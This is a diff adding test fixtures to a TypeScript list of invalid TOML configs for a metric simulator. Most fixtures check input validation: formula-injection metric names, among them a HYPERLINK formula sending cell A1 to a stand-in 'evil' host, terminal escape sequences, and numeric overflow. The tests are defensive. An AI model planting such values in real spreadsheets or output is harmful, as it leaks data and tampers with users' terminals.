@@ -187,4 +187,71 @@ export const BAD_CONFIGS: [string, string, string[]][] = [
       "anomalies.cpu[0].recovery_time: missing; an integer >= 1 is required",
     ],
   ],
+  [
+    "a metric name that a spreadsheet reads as a formula",
+    `${GOOD_GENERAL}[metrics."=HYPERLINK(\\"http://evil/?\\"&A1,\\"x\\")"]\nvalue = 1\n`,
+    [
+      `metrics."=HYPERLINK(\\"http://evil/?\\"&A1,\\"x\\")": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
+    ],
+  ],
+  [
+    "metric names beginning with + - @",
+    `${GOOD_GENERAL}[metrics."+a"]\nvalue = 1\n[metrics."-b"]\nvalue = 1\n[metrics."@c"]\nvalue = 1\n`,
+    [
+      `metrics."+a": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
+      `metrics.-b: a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
+      `metrics."@c": a metric name must not begin with "=", "+", "-" or "@": spreadsheets read such a column header as a formula`,
+    ],
+  ],
+  [
+    "a metric name holding terminal escapes",
+    `${GOOD_GENERAL}[metrics."a\\u001b]0;pwned\\u0007\\u001b[2J"]\nvalue = 1\n`,
+    [
+      `metrics."a\\u001b]0;pwned\\u0007\\u001b[2J": a metric name must not hold control characters (they would reach terminals)`,
+    ],
+  ],
+  [
+    "an unknown key holding escapes, echoed escaped",
+    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\n"x\\u001b[31m" = 2\n`,
+    [
+      `metrics.cpu: unknown key "x\\u001b[31m" (value, noise, noise_args, step_size)`,
+    ],
+  ],
+  [
+    "a long bad value, echoed cut",
+    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "${"z".repeat(100_000)}"\n`,
+    [
+      `metrics.cpu.noise: "${
+        "z".repeat(60)
+      }... (100000 characters)" is not a noise (gaussian, uniform, exponential, logistic, laplace, normal)`,
+    ],
+  ],
+  [
+    "a value times its factors beyond 1e300",
+    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1e10\n[anomalies.cpu]\nat = 1\nanomaly_factor = 1e308\npattern = "step"\nrecovery_time = 2\n`,
+    [
+      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: value x the product of its anomaly factors can reach more than the largest double (1.8e308)",
+    ],
+  ],
+  [
+    "a noise scale that overflows",
+    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "gaussian"\nnoise_args = { scale = 1.7976931348623157e308 }\n`,
+    [
+      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its noise (gaussian) can reach more than the largest double (1.8e308)",
+    ],
+  ],
+  [
+    "a uniform width that overflows",
+    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1\nnoise = "uniform"\nnoise_args = { low = -1e300, high = 1e300 }\n`,
+    [
+      "metrics.cpu: values must stay within +-1e+300 to be computed exactly: its noise (uniform) can reach 2.00e+300",
+    ],
+  ],
+  [
+    "a step_size too small for the values",
+    `${GOOD_GENERAL}[metrics.cpu]\nvalue = 1e10\nstep_size = 1e-300\n`,
+    [
+      "metrics.cpu.step_size: too small for values up to 1.00e+10: value / step_size must stay within 1e+300: got 1e-300",
+    ],
+  ],
 ];
